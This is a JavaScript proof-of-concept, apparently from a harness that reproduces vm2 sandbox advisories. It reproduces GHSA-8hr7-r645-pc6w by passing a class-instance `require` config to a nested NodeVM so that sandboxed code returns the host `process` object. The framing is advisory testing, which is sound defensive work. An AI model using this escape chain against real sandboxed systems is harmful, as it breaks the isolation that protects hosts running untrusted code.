// Source: vm2 advisory GHSA-8hr7-r645-pc6w (test/ghsa/GHSA-8hr7-r645-pc6w/ in vm2's repository; fixed after vm2 3.11.2, by 3.12.2 (a bypass of GHSA-m4wx)): a `require` option that is a class instance (not a plain object) passed the m4wx check.
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: require('vm2') with a class-instance require config.
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    const { NodeVM } = req('vm2'); class Cfg { constructor() { this.builtin = ['*']; } } const inner = new NodeVM({ nesting: true, require: new Cfg() }); __wr.use(inner.run('module.exports = process', 'inner.js'), 'process from an inner NodeVM');
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
